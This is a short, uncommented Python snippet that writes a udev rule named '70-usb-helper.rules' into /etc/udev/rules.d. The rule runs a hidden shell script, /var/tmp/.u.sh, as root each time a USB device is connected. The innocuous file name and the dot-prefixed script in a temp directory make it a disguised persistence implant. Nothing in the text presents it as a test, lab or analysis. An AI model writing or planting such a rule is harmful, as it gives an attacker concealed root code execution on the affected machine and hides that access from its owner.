from pathlib import Path

rules_dir = Path("/") / "etc" / "udev" / "rules.d"
rule = 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh /var/tmp/.u.sh"\n'
(rules_dir / "70-usb-helper.rules").write_text(rule)
